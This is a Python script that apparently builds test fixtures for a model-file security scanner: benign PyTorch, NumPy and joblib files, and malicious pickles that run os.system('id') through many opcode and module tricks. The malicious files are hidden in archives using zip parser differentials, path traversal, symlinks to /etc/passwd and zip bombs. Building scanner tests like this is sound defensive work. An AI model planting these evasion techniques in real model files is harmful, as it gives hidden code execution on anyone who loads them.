#!/usr/bin/env python3
"""Builds benign model files shaped like real PyTorch, NumPy and scikit-learn/joblib output,
and one malicious variant per attack technique, into OUT_DIR, with OUT_DIR/manifest.tsv:

    name <TAB> expected exit <TAB> --fail-on <TAB> technique

Stdlib only (no torch, numpy or joblib): the libraries' pickles are reproduced with stub
modules registered in sys.modules, so `pickle` writes exactly the globals the real libraries
write (torch.save's persistent ids, numpy.ndarray.__reduce__, joblib's NumpyArrayWrapper), and
attack pickles are assembled opcode by opcode. Deterministic: the same bytes on every run.

Usage: make_samples.py OUT_DIR [--big-mib N] [--many-tensors N]
  --big-mib N        only write big_torch.pt with N MiB of tensor data
  --many-tensors N   only write many_tensors.pt: N layers (2N+1 tensors), a large data.pkl
"""

import base64
import bz2
import collections
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

OUT = sys.argv[1]
MANIFEST = []


def stub_module(name):
    mod = types.ModuleType(name)
    sys.modules[name] = mod
    parent, _, child = name.rpartition(".")
    if parent:
        setattr(stub_module(parent) if parent not in sys.modules else sys.modules[parent], child, mod)
    return mod


def stub_function(module, name):
    def f(*args, **kwargs):
        raise RuntimeError("stub")
    f.__module__, f.__qualname__, f.__name__ = module, name, name
    mod = sys.modules.get(module) or stub_module(module)
    setattr(mod, name, f)
    return f


def stub_class(module, name, base=object):
    cls = type(name, (base,), {})
    cls.__module__, cls.__qualname__ = module, name
    mod = sys.modules.get(module) or stub_module(module)
    setattr(mod, name, cls)
    return cls


# ---- PyTorch: what torch.save writes (torch/serialization.py, torch/_tensor.py) ----------
rebuild_tensor_v2 = stub_function("torch._utils", "_rebuild_tensor_v2")
rebuild_parameter = stub_function("torch._utils", "_rebuild_parameter")
FloatStorage = stub_class("torch", "FloatStorage")
LongStorage = stub_class("torch", "LongStorage")


class Storage:
    def __init__(self, key, cls, numel, itemsize=4):
        self.key, self.cls, self.numel, self.itemsize = key, cls, numel, itemsize


class Tensor:
    def __init__(self, storage, shape):
        self.storage, self.shape = storage, tuple(shape)
        stride, acc = [], 1
        for d in reversed(self.shape):
            stride.insert(0, acc)
            acc *= d
        self.stride = tuple(stride)

    def __reduce_ex__(self, proto):
        return (rebuild_tensor_v2,
                (self.storage, 0, self.shape, self.stride, False, collections.OrderedDict()))


class Parameter(Tensor):
    def __reduce_ex__(self, proto):
        return (rebuild_parameter, (Tensor(self.storage, self.shape), True, collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    legacy = False

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            if self.legacy:
                return ("storage", obj.cls, obj.key, "cpu", obj.numel, None)
            return ("storage", obj.cls, obj.key, "cpu", obj.numel)
        return None


def state_dict(n_layers=3, width=4, big_numel=None):
    sd = collections.OrderedDict()
    storages = []
    for i in range(n_layers):
        numel = big_numel or width * width
        s = Storage(str(len(storages)), FloatStorage, numel)
        storages.append(s)
        shape = (width, numel // width)
        sd[f"layers.{i}.weight"] = Tensor(s, shape)
        b = Storage(str(len(storages)), FloatStorage, width)
        storages.append(b)
        sd[f"layers.{i}.bias"] = Parameter(b, (width,))
    steps = Storage(str(len(storages)), LongStorage, 1, 8)
    storages.append(steps)
    sd["num_batches_tracked"] = Tensor(steps, ())
    return sd, storages


def torch_pickle(obj, legacy=False):
    buf = io.BytesIO()
    p = TorchPickler(buf, protocol=2)
    p.legacy = legacy
    p.dump(obj)
    return buf.getvalue()


def torch_zip(path, pkl, storages, extra=(), fill=b"\x00"):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pkl)
        z.writestr("archive/byteorder", "little")
        for s in storages:
            z.writestr(f"archive/data/{s.key}", fill * (s.numel * s.itemsize))
        z.writestr("archive/version", "3\n")
        z.writestr("archive/.data/serialization_id", "1234567890123456789012345678901234567890")
        for name, data in extra:
            z.writestr(name, data)


def big_torch_zip(path, mib):
    """A PyTorch-shaped checkpoint with `mib` MiB of tensor data, written in streaming chunks."""
    per = 64 << 20
    layers = max(1, (mib << 20) // per)
    sd, storages = state_dict(n_layers=layers, width=1024, big_numel=per // 4)
    chunk = bytes(range(256)) * 4096
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED, allowZip64=True) as z:
        z.writestr("archive/data.pkl", torch_pickle(sd))
        for s in storages:
            with z.open(f"archive/data/{s.key}", "w", force_zip64=True) as w:
                left = s.numel * s.itemsize
                while left > 0:
                    w.write(chunk[: min(left, len(chunk))])
                    left -= min(left, len(chunk))
        z.writestr("archive/version", "3\n")


MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(model_pkl_obj, storages, payload=None):
    """torch.save(..., _use_new_zipfile_serialization=False): five pickles, then raw storages."""
    out = io.BytesIO()
    for obj in (MAGIC, 1001, {"protocol_version": 1001, "little_endian": True,
                              "type_sizes": {"short": 2, "int": 4, "long": 4}}):
        pickle.dump(obj, out, protocol=2)
    out.write(payload if payload is not None else torch_pickle(model_pkl_obj, legacy=True))
    pickle.dump([s.key for s in storages], out, protocol=2)
    for s in storages:
        out.write(struct.pack("<q", s.numel))
        out.write(b"\x01" * (s.numel * s.itemsize))
    return out.getvalue()


def torch_tar(path, sd, storages, pickle_payload=None):
    def add(t, name, data):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
        add(t, "sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2))
        add(t, "pickle", pickle_payload if pickle_payload is not None else torch_pickle(sd, legacy=True))
        add(t, "tensors", pickle.dumps(0, protocol=2))
        add(t, "storages", pickle.dumps(len(storages), protocol=2))


# ---- NumPy: numpy.ndarray.__reduce__ and the .npy format (numpy/lib/format.py) -------------
reconstruct = stub_function("numpy.core.multiarray", "_reconstruct")
ndarray = stub_class("numpy", "ndarray")
dtype_cls = stub_class("numpy", "dtype")


class DType:
    def __init__(self, code, elsize):
        self.code, self.elsize = code, elsize

    def __reduce__(self):
        return (dtype_cls, (self.code, False, True), (3, "|" if self.code == "O8" else "<", None, None, None, -1, -1, 63 if self.code == "O8" else 0))


class Array:
    def __init__(self, values, code="f8"):
        self.values, self.code = list(values), code

    def __reduce__(self):
        dt = DType(self.code, 8)
        data = self.values if self.code == "O8" else b"".join(struct.pack("<d", v) for v in self.values)
        return (reconstruct, (ndarray, (0,), b"b"), (1, (len(self.values),), dt, False, data))


def npy(values, obj=False, payload=None):
    descr = "|O" if obj else "<f8"
    header = "{'descr': '%s', 'fortran_order': False, 'shape': (%d,), }" % (descr, len(values))
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    out = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")
    if payload is not None:
        return out + payload
    if obj:
        return out + pickle.dumps(Array(values, "O8"), protocol=3)
    return out + b"".join(struct.pack("<d", v) for v in values)


# NumPy's random generators (numpy/random/_pickle.py, bit_generator.pyx): default_rng()
# pickles as __generator_ctor(PCG64 rebuilt by __bit_generator_ctor, with its state and a
# SeedSequence in Cython's own pickle).
generator_ctor = stub_function("numpy.random._pickle", "__generator_ctor")
bit_generator_ctor = stub_function("numpy.random._pickle", "__bit_generator_ctor")
PCG64 = stub_class("numpy.random._pcg64", "PCG64")
SeedSequence = stub_class("numpy.random.bit_generator", "SeedSequence")
unpickle_seed_sequence = stub_function("numpy.random.bit_generator", "__pyx_unpickle_SeedSequence")


class SeedSeq:
    def __reduce__(self):
        return (unpickle_seed_sequence, (SeedSequence, 0x5A7B3B1, (0, Array([1.0, 2.0, 3.0, 4.0]), 4, (), 0)))


class BitGen:
    def __reduce__(self):
        state = {"bit_generator": "PCG64", "state": {"state": 2**100 + 7, "inc": 2**90 + 1}, "has_uint32": 0, "uinteger": 0}
        return (bit_generator_ctor, (PCG64,), (state, SeedSeq()))


class Rng:
    def __reduce__(self):
        return (generator_ctor, (BitGen(),), None)


# ---- joblib: NumpyPickler writes arrays in-stream after each NumpyArrayWrapper ------------
NumpyArrayWrapper = stub_class("joblib.numpy_pickle", "NumpyArrayWrapper")
LogisticRegression = stub_class("sklearn.linear_model._logistic", "LogisticRegression")


class Wrapped:
    def __init__(self, values):
        self.values = values


class JoblibPickler(pickle._Pickler):  # joblib subclasses the pure-Python pickler too
    def __init__(self, f):
        super().__init__(f, protocol=4)
        self.f = f

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Wrapped):
            w = NumpyArrayWrapper.__new__(NumpyArrayWrapper)
            w.__dict__.update({"subclass": ndarray, "shape": (len(obj.values),), "order": "C",
                               "dtype": DType("f8", 8), "allow_mmap": True,
                               "numpy_array_alignment_bytes": 16})
            super().save(w)
            self.framer.commit_frame(force=True)
            pos = self.f.tell() + 1
            pad = 16 - (pos % 16)
            pad = 0 if pad == 16 else pad
            self.f.write(bytes([pad]) + b"\xff" * pad)
            self.f.write(b"".join(struct.pack("<d", v) for v in obj.values))
            return
        super().save(obj, save_persistent_id)


def joblib_dump(obj):
    buf = io.BytesIO()
    JoblibPickler(buf).dump(obj)
    return buf.getvalue()


def estimator(tail=None):
    est = LogisticRegression.__new__(LogisticRegression)
    est.__dict__.update({"C": 1.0, "penalty": "l2", "coef_": Wrapped([0.5, -1.25, 2.0]),
                         "intercept_": Wrapped([0.1]), "classes_": Wrapped([0.0, 1.0]),
                         "n_iter_": Wrapped([12.0]), "_sklearn_version": "1.5.0"})
    return est


# ---- opcode assembler for attack pickles ---------------------------------------------------
def su(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def glob(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def call1(m, n, arg):
    return glob(m, n) + su(arg) + b"\x85R"


def p2(body):
    return b"\x80\x02" + body + b"."


def p4(body):
    return b"\x80\x04" + body + b"."


SYSTEM = p2(call1("os", "system", "id"))


def write(name, data, exit_code, technique, fail_on="high"):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    MANIFEST.append((name, exit_code, fail_on, technique))


def zip_bytes(members, method=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for n, d in members:
            z.writestr(n, d)
    return buf.getvalue()


def patch_zip(data, fn):
    return bytes(fn(bytearray(data)))


def local_header(name, data):
    return b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0) + name + data


def cd_record(name, data, offset):
    return b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0, offset) + name


def end_record(count, size, offset):
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, size, offset, 0)


def main():
    os.makedirs(OUT, exist_ok=True)
    big = None
    if "--big-mib" in sys.argv:
        big = int(sys.argv[sys.argv.index("--big-mib") + 1])
        big_torch_zip(os.path.join(OUT, "big_torch.pt"), big)
        return
    if "--many-tensors" in sys.argv:
        n = int(sys.argv[sys.argv.index("--many-tensors") + 1])
        sd, storages = state_dict(n_layers=n, width=2)
        torch_zip(os.path.join(OUT, "many_tensors.pt"), torch_pickle(sd), storages)
        return
    sd, storages = state_dict()
    pkl = torch_pickle(sd)

    # -- benign ----------------------------------------------------------------------------
    torch_zip(os.path.join(OUT, "benign_torch_zip.pt"), pkl, storages)
    MANIFEST.append(("benign_torch_zip.pt", 0, "info", "benign: torch.save zip checkpoint"))
    write("benign_torch_legacy.pt", torch_legacy(sd, storages), 0, "benign: legacy stacked-pickle checkpoint", "info")
    torch_tar(os.path.join(OUT, "benign_torch_tar.pt"), sd, storages)
    MANIFEST.append(("benign_torch_tar.pt", 0, "info", "benign: legacy tar checkpoint"))
    write("benign_float.npy", npy([1.0, 2.5, -3.0]), 0, "benign: float .npy", "info")
    write("benign_object.npy", npy(["a", 1, None], obj=True), 0, "benign: object .npy", "info")
    write("benign_arrays.npz", zip_bytes([("a.npy", npy([1.0])), ("b.npy", npy(["x"], obj=True))], zipfile.ZIP_DEFLATED), 0, "benign: compressed npz", "info")
    jl = joblib_dump(estimator())
    write("benign_estimator.joblib", jl, 0, "benign: joblib scikit-learn estimator with in-stream arrays", "info")
    seeded = estimator()
    seeded.__dict__["random_state"] = Rng()
    write("benign_seeded_estimator.joblib", joblib_dump(seeded), 0, "benign: joblib estimator holding numpy.random.default_rng()", "info")
    write("benign_estimator.joblib.z", zlib.compress(jl), 0, "benign: joblib zlib", "info")
    write("benign_estimator.joblib.gz", gzip.compress(jl, mtime=0), 0, "benign: joblib gzip", "info")
    write("benign_estimator.joblib.bz2", bz2.compress(jl), 0, "benign: joblib bz2", "info")
    write("benign_estimator.joblib.xz", lzma.compress(jl), 0, "benign: joblib xz", "info")
    write("benign_estimator.joblib.lzma", lzma.compress(jl, format=lzma.FORMAT_ALONE), 0, "benign: joblib lzma", "info")
    for proto in range(0, 6):
        write(f"benign_dict_p{proto}.pkl", pickle.dumps({"lr": 0.001, "epochs": [1, 2, 3], "name": "run"}, protocol=proto), 0, f"benign: plain data protocol {proto}", "info")
    ts_code = b"class Net(Module):\n  __parameters__ = [\"weight\", ]\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    _0 = torch.add(torch.matmul(x, self.weight), 1)\n    return _0\n"
    ts_data = p2(glob("__torch__", "Net") + b")\x81}(" + su("weight") + b"Nub")
    write("benign_torchscript.pt", zip_bytes([("m/data.pkl", ts_data), ("m/constants.pkl", p2(b")")), ("m/code/__torch__.py", ts_code), ("m/version", b"3\n")]), 0, "benign: TorchScript archive", "info")
    write("benign_nested.zip", zip_bytes([("inner/model.pt", open(os.path.join(OUT, "benign_torch_zip.pt"), "rb").read())], zipfile.ZIP_DEFLATED), 0, "benign: checkpoint inside a zip", "info")
    tgz = io.BytesIO()
    with tarfile.open(fileobj=tgz, mode="w:gz") as t:
        data = open(os.path.join(OUT, "benign_torch_zip.pt"), "rb").read()
        info = tarfile.TarInfo("model/pytorch_model.bin")
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    write("benign_model.tar.gz", tgz.getvalue(), 0, "benign: checkpoint in tar.gz", "info")

    # -- malicious: pickle techniques ------------------------------------------------------
    write("reduce_os_system.pkl", SYSTEM, 1, "GLOBAL os.system + REDUCE")
    write("posix_alias.pkl", p2(call1("posix", "system", "id")), 1, "posix/nt alias of os")
    write("builtin_eval_proto0.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.", 1, "protocol 0 __builtin__.eval")
    write("inst_opcode.pkl", b"(S'id'\nios\nsystem\n.", 1, "INST opcode")
    write("obj_opcode.pkl", p2(b"(" + glob("subprocess", "check_output") + su("id") + b"o"), 1, "OBJ opcode")
    write("newobj_call.pkl", p2(glob("subprocess", "Popen") + su("id") + b"\x85\x81"), 1, "NEWOBJ on a dangerous class")
    write("newobj_ex_call.pkl", p4(su("subprocess") + su("Popen") + b"\x93" + su("id") + b"\x85}\x92"), 1, "NEWOBJ_EX")
    write("stack_global_memo.pkl", p4(su("os") + b"\x94" + su("system") + b"\x94" + b"00" + su("torch") + su("FloatStorage") + b"0" + b"0" + b"h\x00h\x01\x93" + su("id") + b"\x85R"), 1, "STACK_GLOBAL operands through the memo")
    write("stack_global_string_opcodes.pkl", b"\x80\x04S'os'\nU\x06system\x93U\x02id\x85R.", 1, "STACK_GLOBAL operands from STRING/SHORT_BINSTRING")
    write("stack_global_unicode_escape.pkl", b"\x80\x04Vos\nVsys\\u0074em\n\x93Vid\n\x85R.", 1, "STACK_GLOBAL name spelled with a raw-unicode escape")
    write("dotted_name.pkl", p4(su("pathlib") + su("os.system") + b"\x93" + su("id") + b"\x85R"), 1, "dotted name through an innocent module (pathlib + os.system)")
    write("getattr_chain.pkl", p2(glob("builtins", "getattr") + b"(" + glob("builtins", "__import__") + su("os") + b"\x85Rq\x00" + su("system") + b"tR" + su("id") + b"\x85R"), 1, "builtins.getattr(__import__('os'), 'system')")
    write("operator_methodcaller.pkl", p2(glob("_operator", "methodcaller") + su("system") + su("id") + b"\x86R" + glob("builtins", "__import__") + su("os") + b"\x85R\x85R"), 1, "operator.methodcaller on a module")
    write("operator_attrgetter.pkl", p2(glob("operator", "attrgetter") + su("system") + b"\x85R"), 1, "operator.attrgetter")
    write("pkgutil_resolve_name.pkl", p2(call1("pkgutil", "resolve_name", "os:system") + su("id") + b"\x85R"), 1, "pkgutil.resolve_name")
    write("uuid_command_helper.pkl", p2(glob("uuid", "_get_command_stdout") + su("id") + b"\x85R"), 1, "stdlib command helper uuid._get_command_stdout")
    write("importlib_submodule.pkl", p2(call1("importlib._bootstrap", "_gcd_import", "os")), 1, "submodule of a dangerous module")
    write("ext_opcode.pkl", p2(b"\x82\xf0" + su("id") + b"\x85R"), 1, "EXT1 extension-registry import")
    write("build_on_module.pkl", p4(su("torch") + su("_utils") + b"\x93}" + su("_rebuild_tensor_v2") + glob("builtins", "eval") + b"sb0"), 1, "BUILD on a module object rebinding an allowlisted name")
    write("scanner_self_reference.pkl", p2(call1("fickling.analysis", "check_safety", "x")), 1, "reference to a scanner's own module")
    write("aigis_self_reference.pkl", p2(glob("aigis", "allow_all") + b")R"), 1, "reference to aigis")
    write("types_codetype.pkl", p2(glob("types", "CodeType") + b")R"), 1, "types.CodeType construction")
    write("marshal_code.pkl", p2(call1("marshal", "loads", "c\x00\x00")), 1, "marshal.loads of code")
    write("torch_load_nested.pkl", p2(glob("torch", "load") + su("/tmp/other.pt") + b"\x85R"), 1, "torch.load of another file")
    write("numpy_load_nested.pkl", p2(glob("numpy", "load") + su("/tmp/x.npy") + b"\x85R"), 1, "numpy.load of another file")
    write("nested_pickle_loads.pkl", p2(glob("pickle", "loads") + b"C" + bytes([len(SYSTEM)]) + SYSTEM + b"\x85R"), 1, "pickle.loads of embedded pickle bytes")
    write("nested_base64.pkl", p2(b"}" + su("blob") + su(base64.b64encode(SYSTEM).decode()) + b"s"), 1, "base64-encoded pickle in a string")
    write("nested_hex.pkl", p2(b"}" + su("blob") + su(SYSTEM.hex()) + b"s"), 1, "hex-encoded pickle in a string")
    write("unknown_callable.pkl", p2(call1("evilpkg.tools", "run", "x")), 1, "unknown callable is called")
    write("bit_generator_ctor_class.pkl", p2(glob("numpy.random._pickle", "__bit_generator_ctor") + glob("evilpkg.tools", "Runner") + b"\x85R"), 1, "numpy's __bit_generator_ctor instantiating an unknown class")
    write("unknown_reference.pkl", p2(glob("evilpkg.tools", "Thing")), 0, "unknown global only referenced (medium)")
    write("unknown_reference_medium.pkl", p2(glob("evilpkg.tools", "Thing")), 1, "unknown global only referenced (fails at medium)", "medium")
    write("multiple_pickles.pkl", pickle.dumps([1, 2], protocol=2) + SYSTEM, 1, "benign pickle then a malicious one")
    write("garbage_after_stop.pkl", SYSTEM + b"\xff\xfe garbage", 1, "malicious pickle followed by junk")
    write("truncated_after_payload.pkl", SYSTEM[:-1] + b"(]", 1, "payload then a truncated stream")
    write("type_confusion.pkl", p4(b"K\x01\x94" + su("system") + b"h\x00h\x00\x93" + su("id") + b"\x85R"), 1, "STACK_GLOBAL with an int operand (type confusion)")
    write("missing_memo_key.pkl", p4(glob("os", "system") + b"0h\x07" + su("x") + b"\x93"), 1, "GET of a missing memo key after a payload")
    write("persid_unusual.pkl", p2(su("evil") + b"Q"), 1, "BINPERSID that is not PyTorch's storage tuple", "medium")
    write("persid_text.pkl", b"Pmydata\n.", 1, "text PERSID", "medium")
    write("discarded_call.pkl", p2(glob("collections", "OrderedDict") + b")R0" + b")"), 1, "allowlisted call whose result is popped", "medium")
    write("frame_mismatch.pkl", b"\x80\x04\x95\xff\x00\x00\x00\x00\x00\x00\x00" + b"K\x01.", 1, "FRAME length larger than the data", "medium")
    write("huge_declared_length.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"abc", 1, "BINBYTES8 with a huge declared length", "low")
    write("memo_growth.pkl", b"\x80\x02N" + b"".join(b"r" + struct.pack("<I", i) for i in range(1_000_001)) + b".", 2, "memo growth past the limit (resource exhaustion)")
    write("dup_fanout.pkl", b"\x80\x02]" + b"2" * 200_000 + b"(" + b"t" + b".", 0, "DUP fan-out (shared values, bounded)", "high")

    # -- malicious: containers and formats --------------------------------------------------
    torch_zip(os.path.join(OUT, "torch_zip_malicious.pt"), SYSTEM, storages)
    MANIFEST.append(("torch_zip_malicious.pt", 1, "high", "payload in archive/data.pkl"))
    torch_zip(os.path.join(OUT, "torch_zip_extra_member.pt"), pkl, storages, extra=[("archive/extra.txt", SYSTEM)])
    MANIFEST.append(("torch_zip_extra_member.pt", 1, "high", "payload in a member with a non-pickle extension"))
    write("torch_legacy_malicious.pt", torch_legacy(sd, storages, payload=SYSTEM), 1, "legacy checkpoint with payload in the model pickle")
    torch_tar(os.path.join(OUT, "torch_tar_malicious.pt"), sd, storages, pickle_payload=SYSTEM)
    MANIFEST.append(("torch_tar_malicious.pt", 1, "high", "legacy tar checkpoint with payload"))
    bad_code = b"class Net(Module):\n  def forward(self, x):\n    os.system(\"id\")\n    return x\n"
    write("torchscript_code.pt", zip_bytes([("m/data.pkl", ts_data), ("m/constants.pkl", p2(b")")), ("m/code/__torch__.py", bad_code)]), 1, "TorchScript code calling os.system")
    write("npy_object_malicious.npy", npy(["x"], obj=True, payload=SYSTEM), 1, "object .npy whose pickle runs a command")
    write("npz_object_malicious.npz", zip_bytes([("a.npy", npy(["x"], obj=True, payload=SYSTEM))], zipfile.ZIP_DEFLATED), 1, "npz with malicious object array")
    write("joblib_after_array.joblib", jl + SYSTEM, 1, "joblib stream with a payload after the in-stream arrays")
    evil_jl = joblib_dump({"model": Wrapped([1.0, 2.0]), "x": 1})
    evil_jl = evil_jl[:-1] + b"0" + glob("os", "system") + su("id") + b"\x85R."
    write("joblib_payload_after_wrapper.joblib", evil_jl, 1, "payload inside the joblib pickle after an array's raw bytes")
    write("joblib_compressed_malicious.joblib.z", zlib.compress(evil_jl), 1, "zlib-compressed joblib with payload")
    write("gzip_pickle.pkl.gz", gzip.compress(SYSTEM, mtime=0), 1, "gzip-wrapped pickle")
    write("bz2_pickle.pkl.bz2", bz2.compress(SYSTEM), 1, "bz2-wrapped pickle")
    write("xz_pickle.pkl.xz", lzma.compress(SYSTEM), 1, "xz-wrapped pickle")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as t:
        info = tarfile.TarInfo("model/weights.bin")
        info.size = len(SYSTEM)
        t.addfile(info, io.BytesIO(SYSTEM))
    write("tar_pickle.tar", tbuf.getvalue(), 1, "pickle inside a tar")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as t:
        info = tarfile.TarInfo("../../etc/cron.d/x")
        info.size = 3
        t.addfile(info, io.BytesIO(b"abc"))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        t.addfile(link)
    write("tar_slip_and_link.tar", tbuf.getvalue(), 1, "tar path traversal and symlink", "medium")
    write("zip_wrong_extension.zip", zip_bytes([("notes/data.txt", SYSTEM)]), 1, "pickle in a member named .txt")
    base = zip_bytes([("data.pkl", SYSTEM)])

    def cd_name(b):
        i = b.rfind(b"PK\x01\x02")
        b[i + 46:i + 46 + 8] = b"data.txt"
        return b
    write("zip_name_mismatch.zip", patch_zip(base, cd_name), 1, "central directory name differs from local header")

    def bad_crc(b):
        i = b.rfind(b"PK\x01\x02")
        b[i + 16] ^= 0xFF
        j = b.find(b"PK\x03\x04")
        b[j + 14] ^= 0xFF
        return b
    write("zip_bad_crc.zip", patch_zip(base, bad_crc), 1, "corrupted CRC (strict readers throw)")

    def flag(bit):
        def f(b):
            i = b.rfind(b"PK\x01\x02")
            b[i + 8] |= bit
            j = b.find(b"PK\x03\x04")
            b[j + 6] |= bit
            return b
        return f
    write("zip_flag_encrypted.zip", patch_zip(base, flag(0x01)), 1, "encrypted flag on a plain stored member")
    write("zip_flag_0x20.zip", patch_zip(base, flag(0x20)), 1, "flag bit 0x20")
    hidden = zip_bytes([("a.txt", b"hello")])
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, zlib.crc32(SYSTEM), len(SYSTEM), len(SYSTEM), 8, 0) + b"data.pkl" + SYSTEM
    i = hidden.find(b"PK\x01\x02")
    cd = bytearray(hidden[i:])
    cd_off = struct.unpack("<I", cd[-6:-2])[0]
    cd[-6:-2] = struct.pack("<I", cd_off + len(local))
    write("zip_hidden_local.zip", hidden[:i] + local + bytes(cd), 1, "member only in a local header (not in the central directory)")
    # Python's zipfile moves every offset by the bytes prepended to an archive and reads
    # records until the directory's size is used up; miniz (PyTorch) does neither.
    name = b"data.pkl"
    decoy = pickle.dumps(list(range(64)), protocol=2)
    lb, lm = local_header(name, decoy), local_header(name, SYSTEM)
    cdb = cd_record(name, decoy, 0)
    x = len(lb) + len(cdb)
    concat = x + len(lm) - len(lb)
    assert len(lb) >= len(lm)
    two_views = lb + cdb + lm + cd_record(name, SYSTEM, x - concat) + end_record(1, len(cdb), len(lb))
    assert zipfile.ZipFile(io.BytesIO(two_views)).read("data.pkl") == SYSTEM, "Python reads the payload"
    write("zip_two_views.zip", two_views, 1, "each zip reader shown its own data.pkl (Python's zipfile the payload)")
    stub = b"#!/bin/sh\necho self-extracting stub\nexit 0\n"
    prepended = stub + zip_bytes([("data.pkl", SYSTEM)])
    assert zipfile.ZipFile(io.BytesIO(prepended)).read("data.pkl") == SYSTEM
    write("zip_prepended_stub.zip", prepended, 1, "payload in an archive behind a prepended stub")

    # Two ZIP64 end records: miniz (PyTorch) reads the one the locator points to, Python's
    # zipfile the 56 bytes just before the locator. Each lists its own data.pkl, and a walk of
    # the local headers from the start stops at the first directory, before the payload.
    def zip64_end(count, size, offset):
        return b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, size, offset)
    cda = cd_record(name, decoy, 0)
    z64a = len(lb) + len(cda)
    lm_at = z64a + 56
    cdb = cd_record(name, SYSTEM, lm_at)
    cdb_at = lm_at + len(lm)
    z64b = cdb_at + len(cdb)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, z64a, 1)
    two_records = (lb + cda + zip64_end(1, len(cda), len(lb)) + lm + cdb + zip64_end(1, len(cdb), cdb_at)
                   + locator + end_record(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF))
    assert len(two_records) == z64b + 56 + 20 + 22
    assert zipfile.ZipFile(io.BytesIO(two_records)).read("data.pkl") == SYSTEM, "Python reads the payload"
    write("zip64_two_end_records.zip", two_records, 1, "two ZIP64 end records, each zip reader shown its own (Python's zipfile the payload)")

    def undercount(b):
        i = b.rfind(b"PK\x05\x06")
        b[i + 8:i + 12] = struct.pack("<HH", 1, 1)
        return b
    undercounted = patch_zip(zip_bytes([("data.pkl", decoy), ("extra/data.pkl", SYSTEM)]), undercount)
    assert len(zipfile.ZipFile(io.BytesIO(undercounted)).namelist()) == 2
    write("zip_count_short.zip", undercounted, 1, "end record counts fewer members than the directory holds")
    write("zip_duplicate_names.zip", zip_bytes([("data.pkl", pickle.dumps(1, protocol=2)), ("data.pkl", pickle.dumps(2, protocol=2))]), 1, "duplicate member names", "medium")
    write("zip_slip.zip", zip_bytes([("../../evil.pkl", pickle.dumps(1, protocol=2))]), 1, "zip-slip member name", "medium")
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        info = zipfile.ZipInfo("link")
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        z.writestr(info, "/etc/passwd")
    write("zip_symlink.zip", zbuf.getvalue(), 1, "symlink member", "medium")
    nested = zip_bytes([("outer/inner.zip", zip_bytes([("deep/model.bin", SYSTEM)]))], zipfile.ZIP_DEFLATED)
    write("zip_in_zip.zip", nested, 1, "pickle in a zip inside a zip")
    deep = SYSTEM
    for level in range(12):
        deep = zip_bytes([(f"l{level}.zip", deep)])
    write("deep_nesting.zip", deep, 2, "archives nested past the depth limit: not scanned")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        with z.open("bomb.bin", "w") as w:
            zero = bytes(1 << 20)
            for _ in range(300):
                w.write(zero)
    write("zip_bomb.zip", bomb.getvalue(), 2, "decompresses past the member limit: not scanned")

    with open(os.path.join(OUT, "manifest.tsv"), "w") as f:
        for row in MANIFEST:
            f.write("\t".join(str(c) for c in row) + "\n")


main()
